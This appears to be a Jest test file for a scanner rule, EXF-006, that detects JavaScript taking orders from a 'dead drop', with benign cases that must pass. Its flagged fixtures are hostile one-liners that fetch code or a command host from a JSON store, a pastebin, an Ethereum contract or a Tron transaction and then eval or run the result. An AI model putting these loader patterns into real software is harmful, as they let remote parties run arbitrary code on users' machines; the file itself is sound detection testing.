import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const found = [
  [
    'code from a store of JSON',
    `const axios = require('axios'); (async () => { const r = await axios.get('https://api.npoint.io/0000'); new Function('require', r.data.model)(require); })();`,
  ],
  [
    'a host from a contract',
    `const { ethers } = require('ethers'); const axios = require('axios');
     const contract = new ethers.Contract('0x' + '1'.repeat(40), ['function getString(address) view returns (string)'], ethers.getDefaultProvider('mainnet'));
     (async () => { const url = await contract.getString('0x0'); const r = await axios.get(url + '/node-linux'); save(r.data); })();`,
  ],
  [
    'a host from a paste',
    `(async () => { const host = await (await fetch('https://pastebin.com/raw/AAAA')).text(); fetch(host, { method: 'POST', body: 'a' }); })();`,
  ],
  [
    'code from a transaction',
    `fetch('https://api.trongrid.io/v1/accounts/T0/transactions').then((r) => r.json()).then((j) => eval(Buffer.from(j.data[0].raw, 'hex').toString()));`,
  ],
] as const;

const passed = [
  [
    'data from a gist',
    `fetch('https://gist.githubusercontent.com/a/b/raw/c.json').then((r) => r.json()).then((list) => render(list));`,
  ],
  [
    'a client of a chain',
    `const { ethers } = require('ethers'); const c = new ethers.Contract(address, abi, provider); c.balanceOf(me).then((b) => fetch('https://a.example.invalid', { body: String(b) }));`,
  ],
  [
    'the next page of its own service',
    `fetch('https://api.example.invalid/a').then((r) => r.json()).then((page) => fetch(page.next));`,
  ],
] as const;

describe('EXF-006 takes its orders from a dead drop', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('EXF-006', js(source))).toEqual(['high index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('EXF-006', js(source))).toEqual([]);
  });
});
